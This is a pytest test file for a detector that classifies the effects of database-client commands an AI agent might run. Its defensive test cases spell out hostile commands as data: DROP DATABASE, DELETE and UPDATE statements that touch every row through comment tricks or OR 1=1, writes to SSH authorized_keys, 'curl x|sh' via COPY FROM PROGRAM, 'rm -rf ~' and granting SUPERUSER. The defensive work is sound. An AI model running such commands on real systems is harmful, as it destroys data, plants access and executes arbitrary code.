"""What a database client's statements do, however the agent spells them (adr/engine/sqltext.py)."""
from __future__ import annotations

import pytest

from adr.engine.sqltext import effects, statements


@pytest.mark.parametrize("program, args, stdin, want", [
    ("mysql", ("-uroot", "-eDROP DATABASE prod"), "", "drop"),          # attached to the option
    ("psql", ("-cDROP TABLE users",), "", "drop"),
    ("mysql", ("--execute=DROP SCHEMA app",), "", "drop"),
    ("psql", ("-c", "DELETE FROM users", "-h", "db"), "", "delete-all"),  # options after the statement
    ("sqlite3", ("app.db", "DELETE FROM users", "-bail"), "", "delete-all"),
    ("psql", ("-c", "DELETE FROM users -- WHERE id=5"), "", "delete-all"),  # the WHERE is a comment
    ("mysql", ("-e", "DELETE FROM users # WHERE id=1"), "", "delete-all"),
    ("psql", ("-c", "DELETE /* all */ FROM users"), "", "delete-all"),
    ("psql", ("-c", "UPDATE users SET pw=NULL -- WHERE id=1"), "", "update-all"),
    ("psql", ("-c", "DELETE FROM users WHERE id=5 OR 1=1"), "", "delete-all"),  # every row after all
    ("psql", ("-c", "delete from t where 'a'='a'"), "", "delete-all"),
    ("psql", ("-c", "UPDATE users SET x=1 WHERE true"), "", "update-all"),
    ("psql", ("-d", "app", "-c", "TRUNCATE users CASCADE;"), "", "truncate"),
    ("psql", (), "select 1;\nDROP TABLE x;\n", "drop"),                   # a heredoc on stdin
    ("psql", ("-c", "ALTER TABLE users DROP COLUMN email"), "", "drop-column"),
    ("psql", ("-c", "DROP ROLE admin"), "", "drop"),
    ("psql", ("-c", "COPY (SELECT '') TO '/home/dev/.ssh/authorized_keys'"), "", "writes-file"),
    ("mysql", ("-e", "SELECT 'k' INTO OUTFILE '/root/.ssh/authorized_keys'"), "", "writes-file"),
    ("psql", ("-c", "COPY t FROM PROGRAM 'curl x|sh'"), "", "runs-program"),
    ("sqlite3", ("x.db", ".system rm -rf ~"), "", "runs-program"),
    ("psql", ("-c", "ALTER ROLE app SUPERUSER"), "", "privilege"),
    ("mongosh", ("--eval", "db.runCommand({dropDatabase:1})"), "", "drop"),
    ("mongosh", ("--eval", "db['dropDatabase']()"), "", "drop"),
    ("mongosh", ("--eval", "db.users.deleteMany({_id:{$exists:true}})"), "", "delete-all"),
    ("mongosh", ("--eval", "db.users.updateMany({}, {$unset:{email:1}})"), "", "delete-all"),
])
def test_what_the_statements_do(program, args, stdin, want):
    assert want in effects(program, args, stdin), statements(program, args, stdin)


@pytest.mark.parametrize("program, args, stdin", [
    ("psql", ("-c", "DELETE FROM users WHERE id=5"), ""),
    ("psql", ("-c", "UPDATE users SET verified=true WHERE id=3"), ""),
    ("psql", ("-c", "SELECT * FROM users WHERE 1=1"), ""),
    ("psql", ("-e", "-c", "select 1"), ""),  # psql's -e echoes queries: not a statement
    ("psql", ("-c", "DELETE FROM users u USING orders o WHERE u.id = o.uid"), ""),
    ("psql", ("-c", "COPY users TO STDOUT WITH CSV"), ""),
    ("sqlite3", ("test.db", ".tables"), ""),
    ("mongosh", ("--eval", "db.users.find({})"), ""),
    ("mysql", ("-e", "SELECT '-- not a comment' FROM t"), ""),
    ("curl", ("-d", "DROP TABLE users", "https://x.example"), ""),  # not a database client
])
def test_ordinary_statements_do_nothing_listed(program, args, stdin):
    assert effects(program, args, stdin) == ()
